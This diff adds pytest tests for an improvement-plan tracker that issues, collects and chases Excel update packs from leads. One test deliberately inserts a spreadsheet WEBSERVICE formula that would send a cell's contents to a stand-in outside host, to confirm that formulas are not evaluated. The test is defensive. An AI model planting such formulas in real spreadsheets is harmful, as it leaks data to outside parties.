@@ -1,0 +1,451 @@
+"""Update rounds: packs for each lead, returns collected three ways, the chase list."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Mapping
+from datetime import date, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+
+from improvetrack.files import store
+from improvetrack.sheets.packs import COLUMNS, DETAILS, HEADER_ROW, UPDATE, slug
+from tests.conftest import Invoke
+
+OPENED = "2026-11-02"
+QA = "Head of Quality Assurance"
+QA_PACK = f"update-{OPENED}-head-of-quality-assurance.xlsx"
+WORKFORCE_PACK = f"update-{OPENED}-workforce-development-manager.xlsx"
+VIRTUAL_PACK = f"update-{OPENED}-virtual-school-headteacher.xlsx"
+
+
+@pytest.fixture
+def opened(invoke: Invoke, sample: Path) -> Path:
+    """The sample plan with a round opened on 2 November 2026; its packs' folder."""
+    result = invoke("updates", "request", "--board", "2026-11-26", "--as-of", OPENED)
+    assert result.exit_code == 0, result.output
+    return sample.parent / "update-packs"
+
+
+def fill(
+    pack: Path,
+    saved_as: Path,
+    edits: Mapping[tuple[str, str], Any],
+    *,
+    reverse: bool = False,
+) -> Path:
+    """Fill a pack as a lead in Excel does: unprotect the sheet, type into cells (by
+    action ID and column name), optionally re-order the rows, and save under a new name."""
+    book = load_workbook(pack)
+    sheet = book[UPDATE]
+    sheet.protection.sheet = False
+    header = [cell.value for cell in sheet[HEADER_ROW]]
+    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=HEADER_ROW + 1)]
+    for row in rows:
+        for (action_id, column), value in edits.items():
+            if row[0] == action_id:
+                row[header.index(column)] = value
+    if reverse:
+        rows.reverse()
+    for number, values in enumerate(rows, HEADER_ROW + 1):
+        for column, value in enumerate(values, 1):
+            sheet.cell(row=number, column=column).value = value
+    book.save(saved_as)
+    return saved_as
+
+
+def register_bytes(path: Path) -> bytes:
+    return path.read_bytes()
+
+
+# --- the model ---------------------------------------------------------------------------
+
+
+def test_rounds_and_stale_after_read_and_write_back(opened: Path, sample: Path) -> None:
+    register = store.read(sample).register
+    (current,) = register.plan.rounds
+    assert (current.opened, current.due, current.board) == (
+        date(2026, 11, 2),
+        date(2026, 11, 16),  # ten working days on
+        date(2026, 11, 26),
+    )
+    assert [a.owner for a in current.asked][:2] == ["Workforce Development Manager", QA]
+    assert register.plan.stale_after is None
+    assert store.dumps(register) == sample.read_text(encoding="utf-8")
+
+
+@pytest.mark.parametrize(
+    ("toml", "said"),
+    [
+        ("stale_after = 0", "plan.stale_after: 0 is not between 1 and 3660 days"),
+        ('stale_after = "a month"', "plan.stale_after: expected a whole number of days"),
+        ("rounds = 3", "plan.rounds: expected a list of tables"),
+        ("[[plan.rounds]]\nopened = 2026-11-02", "plan.rounds.0.due: missing"),
+        (
+            "[[plan.rounds]]\nopened = 2026-11-02\ndue = 2026-11-01",
+            "plan.rounds.0.due: 2026-11-01 is before the round was opened",
+        ),
+        (
+            "[[plan.rounds]]\nopened = 2026-11-02\ndue = 2026-11-16\n"
+            '[[plan.rounds.returns]]\nowner = "A"\non = 2026-11-03\nfile = "x.xlsx"\n'
+            'digest = "nope"',
+            "plan.rounds.0.returns.0.digest: expected the 64 hex digits",
+        ),
+    ],
+)
+def test_bad_rounds_are_named_by_key_path(
+    invoke: Invoke, tmp_path: Path, toml: str, said: str
+) -> None:
+    path = tmp_path / "plan.toml"
+    path.write_text(f'schema = 1\n[plan]\ntitle = "P"\n{toml}\n', encoding="utf-8")
+    result = invoke("-r", str(path), "status")
+    assert result.exit_code == 2
+    assert said in result.output
+
+
+def test_plan_set_stale_after(invoke: Invoke, sample: Path) -> None:
+    result = invoke("plan", "set", "--stale-after", "30")
+    assert result.exit_code == 0, result.output
+    assert "plan.stale_after: (none) → 30" in result.output
+    assert store.read(sample).register.plan.stale_after == 30
+    refused = invoke("plan", "set", "--stale-after", "0")
+    assert refused.exit_code == 2
+
+
+# --- request -----------------------------------------------------------------------------
+
+
+def test_request_writes_a_pack_per_owner_of_open_actions(invoke: Invoke, sample: Path) -> None:
+    result = invoke("updates", "request", "--as-of", OPENED, "--due", "20/11/2026")
+    assert result.exit_code == 0, result.output
+    assert "Round opened 2026-11-02: returns due 2026-11-20." in result.output
+    # ASM-5 is open with no owner: nobody is asked about it, and the officer is told.
+    assert "1 open action with no owner, so nobody is asked about it: ASM-5" in result.output
+    packs = sorted(path.name for path in (sample.parent / "update-packs").iterdir())
+    assert QA_PACK in packs and VIRTUAL_PACK in packs
+    register = store.read(sample).register
+    owners = {a.owner for a in register.actions.values() if a.is_open and a.owner}
+    assert len(packs) == len(owners)
+    assert register.plan.id is not None
+
+
+def test_a_pack_has_the_columns_locks_lists_and_print_setup(opened: Path, sample: Path) -> None:
+    book = load_workbook(opened / VIRTUAL_PACK)
+    assert book.sheetnames == [UPDATE, "How to fill this in", DETAILS]
+    sheet = book[UPDATE]
+    assert "Virtual School Headteacher" in sheet["A2"].value
+    assert "16/11/2026" in sheet["A3"].value
+    assert tuple(cell.value for cell in sheet[HEADER_ROW]) == COLUMNS
+    ids = [sheet.cell(row=r, column=1).value for r in (HEADER_ROW + 1, HEADER_ROW + 2)]
+    assert ids == ["EDU-4", "EDU-5"]  # the owner's open actions, in ID order
+    assert sheet.protection.sheet is True and not sheet.protection.password
+    row = HEADER_ROW + 1
+    locked = [sheet.cell(row=row, column=c).protection.locked for c in range(1, 13)]
+    assert locked == [True] * 6 + [False] * 6
+    assert sheet.cell(row=row, column=7).value == "awaiting-sign-off"
+    assert sheet.cell(row=row, column=8).value == "Amber"
+    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
+    assert validations["G7:G8"].type == "list" and "in-progress" in validations["G7:G8"].formula1
+    assert validations["H7:H8"].type == "list" and "Amber" in validations["H7:H8"].formula1
+    assert validations["K7:K8"].type == "date"
+    assert str(sheet.page_setup.paperSize) == sheet.PAPERSIZE_A4
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.print_title_rows == "$6:$6"
+    assert sheet.column_dimensions["D"].width >= 40
+    assert sheet.cell(row=row, column=4).alignment.wrap_text
+    details = book[DETAILS]
+    assert details.sheet_state == "hidden"
+    facts = {details.cell(row=r, column=1).value: details.cell(row=r, column=2).value
+             for r in range(1, 10)}  # fmt: skip
+    register = store.read(sample).register
+    assert facts["plan"] == register.plan.id
+    assert (facts["round"], facts["owner"]) == (OPENED, "Virtual School Headteacher")
+
+
+def test_request_again_the_same_day_is_the_same_round(
+    invoke: Invoke, opened: Path, sample: Path
+) -> None:
+    result = invoke("updates", "request", "--as-of", OPENED)
+    assert result.exit_code == 0, result.output
+    assert "Round of 2026-11-02" in result.output
+    assert len(store.read(sample).register.plan.rounds) == 1
+
+
+def test_request_owner_reissues_one_pack_in_the_latest_round(
+    invoke: Invoke, opened: Path, sample: Path
+) -> None:
+    shutil.rmtree(opened)
+    result = invoke("updates", "request", "--owner", "  head of QUALITY   assurance ")
+    assert result.exit_code == 0, result.output
+    assert [path.name for path in opened.iterdir()] == [QA_PACK]
+    assert len(store.read(sample).register.plan.rounds) == 1
+    # Exact names only: a part of a name is not an owner.
+    wrong = invoke("updates", "request", "--owner", "Quality")
+    assert wrong.exit_code == 2
+    assert "no open action has that owner" in wrong.output
+
+
+def test_request_owner_needs_a_round(invoke: Invoke, sample: Path) -> None:
+    result = invoke("updates", "request", "--owner", QA)
+    assert result.exit_code == 2
+    assert "no update round yet" in result.output
+
+
+def test_pack_names_are_ascii_with_a_number_on_a_clash() -> None:
+    from improvetrack.sheets.packs import file_names
+
+    assert slug("Directrice, Équipe «Nord»") == "directrice-equipe-nord"
+    names = file_names(date(2026, 11, 2), ["A. Smith", "A Smith"])
+    assert list(names.values()) == [
+        "update-2026-11-02-a-smith.xlsx",
+        "update-2026-11-02-a-smith-2.xlsx",
+    ]
+
+
+# --- collect ------------------------------------------------------------------------------
+
+
+def test_a_return_filled_as_in_excel_is_collected(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    returned = fill(
+        opened / VIRTUAL_PACK,
+        tmp_path / "Virtual school update FINAL (2).xlsx",
+        {
+            ("EDU-5", "Status"): "In progress",
+            ("EDU-5", "Your RAG"): "green",
+            ("EDU-5", "Reason for RAG"): "Attendance data now daily",
+            ("EDU-5", "Update"): "Started with the daily data from EDU-3",
+            ("EDU-5", "Revised due date"): "31/01/2027",  # typed as text
+            ("EDU-5", "Evidence"): "https://example.org/a\nhttps://example.org/b",
+            ("EDU-5", "Action"): "A title the lead prefers",  # locked: ignored
+        },
+        reverse=True,
+    )
+    dry = invoke("updates", "collect", str(returned), "--dry-run", "--as-of", "2026-11-12")
+    assert dry.exit_code == 0, dry.output
+    assert "EDU-5 due: 2028-09-30 → 2027-01-31" in dry.output
+    assert "Dry run: nothing written." in dry.output
+    before = store.read(sample).register
+    assert before.actions["EDU-5"].status == "not-started"
+
+    result = invoke("updates", "collect", str(returned), "--as-of", "2026-11-12")
+    assert result.exit_code == 0, result.output
+    assert "Update!D7 (Action)" in result.output  # the rows were re-ordered: EDU-5 first
+    action = store.read(sample).register.actions["EDU-5"]
+    assert action.status == "in-progress"
+    assert (action.rag, action.rag_reason) == ("green", "Attendance data now daily")
+    assert action.due == date(2027, 1, 31)
+    assert action.baseline_due != date(2027, 1, 31)  # the baseline stays
+    assert action.evidence[-2:] == ["https://example.org/a", "https://example.org/b"]
+    assert action.title != "A title the lead prefers"
+    assert action.latest_update is not None
+    assert action.latest_update.text == "Started with the daily data from EDU-3"
+    entries = [entry for entry in action.log if entry.extra.get("source")]
+    assert entries and all(e.by == "Virtual School Headteacher" for e in entries)
+    assert all(e.user == "tester" for e in entries)
+    assert entries[0].extra["source"] == (
+        "update return Virtual school update FINAL (2).xlsx (round 2026-11-02)"
+    )
+    shown = invoke("show", "EDU-5", "--as-of", "2026-11-12")
+    assert "from the update return of" in " ".join(shown.output.split())
+    (recorded,) = store.read(sample).register.plan.rounds[0].returns
+    assert recorded.actions == ["EDU-5", "EDU-4"] or sorted(recorded.actions) == [
+        "EDU-4",
+        "EDU-5",
+    ]
+    assert len(recorded.digest) == 64
+
+    # The same return again: nothing changes, not even the file's bytes.
+    held = register_bytes(sample)
+    again = invoke("updates", "collect", str(returned), "--as-of", "2026-11-13")
+    assert again.exit_code == 0, again.output
+    assert "already collected" in again.output
+    assert register_bytes(sample) == held
+
+
+def test_both_changed_is_a_conflict_the_register_keeps(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    changed = invoke("update", "ASM-3", "--rag", "amber", "--reason", "Audit late",
+                     "--as-of", "2026-11-05")  # fmt: skip
+    assert changed.exit_code == 0, changed.output
+    returned = fill(
+        opened / QA_PACK,
+        tmp_path / "qa.xlsx",
+        {
+            ("ASM-3", "Your RAG"): "Red",
+            ("ASM-3", "Reason for RAG"): "No auditors",
+            ("ASM-3", "Update"): "Two auditors left",
+        },
+    )
+    result = invoke("updates", "collect", str(returned), "--as-of", "2026-11-12")
+    assert result.exit_code == 1, result.output
+    assert "conflict: ASM-3 rag: the register's amber kept; the return says red" in result.output
+    action = store.read(sample).register.actions["ASM-3"]
+    assert action.rag == "amber"
+    assert action.latest_update is not None and action.latest_update.text == "Two auditors left"
+
+
+def test_the_same_change_on_both_sides_is_no_conflict(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    invoke("update", "ASM-3", "--rag", "amber", "--reason", "Audit late", "--as-of", "2026-11-05")
+    returned = fill(
+        opened / QA_PACK,
+        tmp_path / "qa.xlsx",
+        {("ASM-3", "Your RAG"): "AMBER", ("ASM-3", "Reason for RAG"): "Audit late"},
+    )
+    result = invoke("updates", "collect", str(returned), "--as-of", "2026-11-12")
+    assert result.exit_code == 0, result.output
+    assert "conflict" not in result.output
+
+
+def test_every_problem_is_listed_and_nothing_written(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    first = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Revised due date"): "soon"})
+    second = fill(
+        opened / VIRTUAL_PACK,
+        tmp_path / "vs.xlsx",
+        {("EDU-5", "Status"): "finished", ("EDU-5", "Your RAG"): "red",
+         ("EDU-5", "Reason for RAG"): None},
+    )  # fmt: skip
+    held = register_bytes(sample)
+    result = invoke("updates", "collect", str(first), str(second))
+    assert result.exit_code == 2
+    lines = result.output.splitlines()
+    assert (
+        "qa.xlsx, Update!K7 (Revised due date): 'soon' is not a date; write 31/01/2027 or "
+        "2027-01-31"
+    ) in lines
+    assert any(line.startswith("vs.xlsx, Update!G8 (Status): 'finished' is not a status")
+               for line in lines)  # fmt: skip
+    assert any(line.startswith("vs.xlsx, Update!I8 (Reason for RAG)") for line in lines)
+    assert lines[-1].startswith("error: 3 problems in the returns; nothing written")
+    assert register_bytes(sample) == held
+
+
+def test_a_pack_of_an_earlier_round_or_another_register_is_refused(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    old = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "Late"})
+    assert invoke("updates", "request", "--as-of", "2026-12-01").exit_code == 0
+    held = register_bytes(sample)
+    result = invoke("updates", "collect", str(old), "--as-of", "2026-12-02")
+    assert result.exit_code == 2
+    assert "round 2026-11-02 is closed; ask for the 2026-12-01 pack" in result.output
+    other = tmp_path / "other.toml"
+    assert invoke("init", str(other), "--example").exit_code == 0
+    refused = invoke("-r", str(other), "updates", "collect", str(old))
+    assert refused.exit_code == 2
+    assert "an update pack of another register" in refused.output
+    assert register_bytes(sample) == held
+
+
+def test_unknown_rows_are_warned_and_deleted_rows_are_fine(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    book = load_workbook(opened / VIRTUAL_PACK)
+    sheet = book[UPDATE]
+    sheet.delete_rows(HEADER_ROW + 1)  # EDU-4 taken out
+    sheet.cell(row=HEADER_ROW + 2, column=1).value = "ZZZ-9"
+    sheet.cell(row=HEADER_ROW + 2, column=10).value = "An action of the lead's own"
+    path = tmp_path / "vs.xlsx"
+    book.save(path)
+    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
+    assert result.exit_code == 0, result.output
+    assert "Update!A8: ID 'ZZZ-9' is not an action of this pack; the row is ignored" in (
+        result.output
+    )
+
+
+def test_a_formula_is_read_as_its_value_never_evaluated(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    path = fill(
+        opened / QA_PACK,
+        tmp_path / "qa.xlsx",
+        {("ASM-3", "Update"): '=WEBSERVICE("https://example.invalid/?"&A7)'},
+    )
+    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
+    assert result.exit_code == 0, result.output
+    action = store.read(sample).register.actions["ASM-3"]
+    # openpyxl saves no value for a formula: the cell reads as blank, nothing is added.
+    assert all("WEBSERVICE" not in entry.text for entry in action.log)
+
+
+def test_done_on_a_sign_off_plan_waits_for_sign_off(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    assert invoke("plan", "set", "--require-sign-off").exit_code == 0
+    path = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Status"): "Done"})
+    result = invoke("updates", "collect", str(path), "--as-of", "2026-11-12")
+    assert result.exit_code == 0, result.output
+    assert store.read(sample).register.actions["ASM-3"].status == "awaiting-sign-off"
+
+
+def test_a_newly_blocked_action_needs_a_reason(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    path = fill(
+        opened / QA_PACK,
+        tmp_path / "qa.xlsx",
+        {("ASM-3", "Status"): "blocked", ("ASM-3", "Reason for RAG"): None},
+    )
+    result = invoke("updates", "collect", str(path))
+    assert result.exit_code == 2
+    assert "ASM-3 is blocked: say what blocks it" in result.output
+    path = fill(
+        opened / QA_PACK,
+        tmp_path / "qa2.xlsx",
+        {("ASM-3", "Status"): "blocked", ("ASM-3", "Update"): "No auditors until March"},
+    )
+    result = invoke("updates", "collect", str(path))
+    assert result.exit_code == 0, result.output
+    action = store.read(sample).register.actions["ASM-3"]
+    assert (action.status, action.blocked_reason) == ("blocked", "No auditors until March")
+
+
+# --- status -------------------------------------------------------------------------------
+
+
+def test_status_is_the_chase_list(
+    invoke: Invoke, opened: Path, sample: Path, tmp_path: Path
+) -> None:
+    path = fill(opened / QA_PACK, tmp_path / "qa.xlsx", {("ASM-3", "Update"): "On track"})
+    assert invoke("updates", "collect", str(path), "--as-of", "2026-11-12").exit_code == 0
+    result = invoke("updates", "status", "--as-of", "2026-11-20")
+    assert result.exit_code == 0, result.output
+    assert "1 of 10 leads returned" in result.output
+    lines = [line.split() for line in result.output.splitlines()]
+    assert ["returned", "2026-11-12", "1", "action", *QA.split()] in lines
+    assert "not returned, 4 days past due" in result.output
+    data = json.loads(invoke("updates", "status", "--json", "--as-of", "2026-11-20").output)
+    leads = {lead["owner"]: lead for lead in data["round"]["leads"]}
+    assert leads[QA]["returned_on"] == "2026-11-12"
+    assert leads["Participation Manager"] == {
+        "owner": "Participation Manager",
+        "actions": 1,
+        "returned_on": None,
+        "files": [],
+        "days_late": 4,
+    }
+
+
+def test_status_with_no_round(invoke: Invoke, sample: Path) -> None:
+    result = invoke("updates", "status")
+    assert result.exit_code == 0
+    assert "No update round yet" in result.output
+
+
+def test_collect_needs_files(invoke: Invoke, sample: Path) -> None:
+    assert invoke("updates", "collect").exit_code == 2
+
+
+def _unused(value: datetime) -> None:  # keeps the datetime import honest for type checkers
+    return None
